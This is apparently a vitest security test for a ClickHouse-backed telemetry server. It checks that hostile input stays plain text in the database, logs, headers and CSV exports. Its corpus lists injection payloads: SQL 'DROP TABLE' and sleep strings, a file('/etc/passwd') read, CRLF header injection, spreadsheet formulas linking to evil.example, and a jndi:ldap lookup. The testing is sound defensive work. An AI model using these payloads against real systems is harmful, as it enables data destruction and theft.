import { createClient } from '@clickhouse/client';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { toCsv } from '../src/privacy/csv.ts';
import { createClickHouseStore } from '../src/store/clickhouse.ts';
import { makeEnvelope } from './envelopes.ts';
import { type EngineStore, openEngineStore } from './openEngineStore.ts';
import { send, startServer } from './sender.ts';

vi.setConfig({ testTimeout: 90_000, hookTimeout: 60_000 });

const adminToken = 'ca_for-the-one-that-asks';
const headers = { authorization: `Bearer ${adminToken}` };

/** What would end a text, a list, a statement, a line or a cell, and what would cost time if it ran. */
const corpus = [
  "'",
  "''; DROP TABLE candor.events; --",
  "' OR '1'='1",
  "') OR sleepEachRow(3) --",
  "\\'; SELECT sleep(3); --",
  '\\',
  '`; TRUNCATE TABLE candor.events; `',
  '"; ALTER TABLE candor.events DELETE WHERE 1; "',
  '{project:String}',
  "{x:Identifier} UNION ALL SELECT * FROM file('/etc/passwd')",
  '/* */ SETTINGS max_execution_time=0',
  "1 FORMAT Null; INSERT INTO candor.events SELECT * FROM url('http://127.0.0.1:1/')",
  '%27%20OR%201=1',
  '\u0000\u0001\u001b[2J\r\nX-Injected: yes\r\n\r\n',
  '=HYPERLINK("http://evil.example","x")',
  '+cmd|calc',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '<!channel> <https://evil.example|click> *bold*',
  '#{jndi:ldap://evil.example/x}',
  '__proto__',
  '☃\ud800',
];

let engine: EngineStore;
beforeAll(async () => {
  engine = await openEngineStore();
});
afterAll(() => engine.close());

test('what is planted in a field or asked for in a parameter stays a text for the database, the log, headers and sheets', async () => {
  const lines: string[] = [];
  const store = createClickHouseStore({ ...engine.options, now: Date.now });
  const server = await startServer({ store, adminToken, writeLog: (line) => lines.push(line) });
  const { url, username = '', password = '' } = engine.options;
  const client = createClient({ url, username, password });
  const countRows = async (): Promise<number> => {
    const found = await client.query({
      query: 'SELECT count() AS n FROM candor.events',
      format: 'JSONEachRow',
    });
    return Number(((await found.json()) as { n: number | string }[])[0]?.n);
  };
  let sent = 0;
  for (const text of corpus) {
    const at = { timestamp: Date.now(), page: text };
    const events = [
      {
        seq: 1,
        type: 'exception',
        ...at,
        data: { type: text, message: text, stacktrace: text, severity: text, [`of ${text}`]: text },
      },
      { seq: 2, type: 'browser.web_vital', ...at, data: { name: text, value: 5 } },
      { seq: 3, type: 'health.check', ...at, data: { service: text, status: text } },
      { seq: 4, type: 'http.client.request', ...at, data: { route: text, durationMs: 4, outcome: text } },
    ];
    const { accepted } = await send(
      server,
      makeEnvelope({
        context: {
          consent: 'full',
          session: text,
          user: text,
          release: text,
          environment: text,
          browser: text,
          os: text,
        },
        events,
      }),
    );
    sent += accepted;
  }
  expect(sent).toBe(corpus.length * 4);
  await expect.poll(countRows).toBe(sent);

  const questions: Readonly<Record<string, readonly string[]>> = {
    vitals: ['page', 'project', 'from', 'to', 'groups'],
    operations: ['page', 'search'],
    requests: ['page', 'search'],
    resources: ['page'],
    pages: ['search', 'limit'],
    errors: ['limit', 'project', 'page', 'search', 'standing'],
    'errors/1': ['errorId'],
    usage: ['project', 'search'],
    experiments: ['goal', 'name'],
    delivery: ['release'],
    'delivery/sessions': ['release', 'session', 'limit'],
    events: ['type', 'session', 'limit'],
    sourcemaps: ['project'],
    audit: ['before'],
  };
  const wrong: string[] = [];
  for (const [question, parameters] of Object.entries(questions))
    for (const parameter of parameters)
      for (const text of corpus) {
        const address = `${server.url}/api/v1/${question}?${parameter}=${encodeURIComponent(text.toWellFormed())}`;
        const response = await fetch(address, { headers });
        await response.text();
        const isFine = response.status < 500 && !response.headers.has('x-injected');
        if (!isFine) wrong.push(`${response.status} ${question} ${parameter} ${JSON.stringify(text)}`);
      }
  for (const text of corpus) {
    const response = await fetch(`${server.url}/api/v1/errors/${encodeURIComponent(text.toWellFormed())}`, {
      headers,
    });
    if (response.status !== 400 && response.status !== 404) wrong.push(`errors/${text}: ${response.status}`);
  }

  expect(wrong).toEqual([]);
  expect(await countRows()).toBe(sent);
  // A text that was asked for finds itself and nothing else.
  for (const text of corpus.filter((one) => one.isWellFormed() && !/\p{Cc}/u.test(one)).slice(0, 8)) {
    const answer = await fetch(
      `${server.url}/api/v1/events?type=exception&session=${encodeURIComponent(text)}`,
      { headers },
    );
    const { events } = (await answer.json()) as { events: { session: string }[] };
    expect([text, [...new Set(events.map(({ session }) => session))]]).toEqual([text, [text]]);
  }
  for (const line of lines) {
    expect(() => JSON.parse(line)).not.toThrow();
    for (const text of ['DROP TABLE', 'evil.example', '\u001b']) expect(line).not.toContain(text);
  }
  await client.close();
});

test('no cell of a file that is handed out begins as a formula does', () => {
  const rows = corpus.map((text, index) => ({ id: text, at: index, type: text, message: text }));

  const csv = toCsv(rows);

  const cells = csv.split(/,|\r?\n/).map((cell) => cell.replace(/^"/, ''));
  expect(cells.filter((cell) => /^[=+@\t]/.test(cell))).toEqual([]);
});
